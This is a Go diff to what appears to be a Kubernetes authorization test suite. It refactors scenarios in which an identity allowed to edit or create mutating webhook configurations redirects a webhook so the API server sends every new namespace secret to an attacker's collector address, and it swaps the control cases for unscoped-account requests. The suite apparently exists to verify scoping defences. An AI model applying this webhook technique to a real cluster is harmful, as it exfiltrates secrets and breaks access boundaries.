@@ -25,7 +25,6 @@ var (
 	mutatingWebhooks = admissionregistrationv1.SchemeGroupVersion.WithResource("mutatingwebhookconfigurations")
 	mayEditWebhooks  = []rbacv1.PolicyRule{
 		right(admissionregistrationv1.GroupName, []string{"get", "create", "patch"}, mutatingWebhooks.Resource),
-		right("", []string{"create"}, "events"),
 	}
 )
 
@@ -45,24 +44,15 @@ var _ = tell(Story{
 				existing := webhook(ctx, r, "https://127.0.0.1:9/inject", "pods/ephemeralcontainers")
 				r.Put(ctx, existing)
 				r.Names["webhook"] = existing.Name
-				ownEvent(ctx, r)
 			},
-			Attack: func(ctx context.Context, r *Run, who *Identity) Answer {
-				edited := webhook(ctx, r, r.Names["collector"], "secrets")
-				return r.Send(ctx, who, Patch(mutatingWebhooks).Named(r.Names["webhook"]).
-					With(fields{"webhooks": edited.Webhooks}).Stored())
-			},
+			Attack: sends(func(r *Run) Request { return editedWebhook(r).Stored() }),
 			Show:   collects,
-			TwinIs: "an event about its pod instead of the webhook",
-			Twin:   sends(func(r *Run) Request { return Create(api.Events).In(stage.Namespace).With(eventAbout(r)) }),
+			TwinIs: byOtherAccount, TwinRule: Behind, Twin: byUnscoped(mayEditWebhooks, editedWebhook),
 		},
 		{
 			Name: "creating a webhook", Effect: "the API server sends a new secret to the attacker",
 			By: daemon, Rights: mayEditWebhooks, Rule: "NS-SCOPE-1", Text: "[NA-DEFAULT]",
-			Prepare: func(ctx context.Context, r *Run) {
-				listens(ctx, r)
-				ownEvent(ctx, r)
-			},
+			Prepare: listens,
 			Attack: func(ctx context.Context, r *Run, who *Identity) Answer {
 				created := webhook(ctx, r, r.Names["collector"], "secrets")
 				DeferCleanup(func(ctx context.Context) error {
@@ -72,11 +62,19 @@ var _ = tell(Story{
 				return r.Send(ctx, who, Create(mutatingWebhooks).With(created).Stored())
 			},
 			Show:   collects,
-			TwinIs: "an event about its pod instead of the webhook",
-			Twin:   sends(func(r *Run) Request { return Create(api.Events).In(stage.Namespace).With(eventAbout(r)) }),
+			TwinIs: byOtherAccount, TwinRule: Behind,
+			Twin: byUnscoped(mayEditWebhooks, func(r *Run) Request {
+				return Create(mutatingWebhooks).With(webhook(context.Background(), r, r.Names["collector"], "secrets"))
+			}),
 		},
 	},
 })
+
+// editedWebhook is a patch of the existing webhook: it then gets every new secret, at the attacker's address.
+func editedWebhook(r *Run) Request {
+	edited := webhook(context.Background(), r, r.Names["collector"], "secrets")
+	return Patch(mutatingWebhooks).Named(r.Names["webhook"]).With(fields{"webhooks": edited.Webhooks})
+}
 
 // webhook returns a configuration for one resource in the namespace of the spec.
 func webhook(ctx context.Context, r *Run, url, resource string) *admissionregistrationv1.MutatingWebhookConfiguration {
@@ -130,16 +128,4 @@ func collects(ctx context.Context, r *Run, _ Answer) {
 		return string(log), err
 	}).WithTimeout(Soon).WithPolling(time.Second).Should(ContainSubstring(arrives))
 	r.Say("The API server has sent a new secret of the namespace to %s.", r.Names["collector"])
-}
-
-// ownEvent reads the attacker's pod, which the twin writes an event about.
-func ownEvent(ctx context.Context, r *Run) {
-	GinkgoHelper()
-	pod, err := r.Client.CoreV1().Pods(stage.Namespace).Get(ctx, scoped, metav1.GetOptions{})
-	Expect(err).NotTo(HaveOccurred())
-	r.Pod = pod
-}
-
-func eventAbout(r *Run) *corev1.Event {
-	return fixtures.EventAbout(r.Pod, r.NewName("event"), r.Attacker())
 }
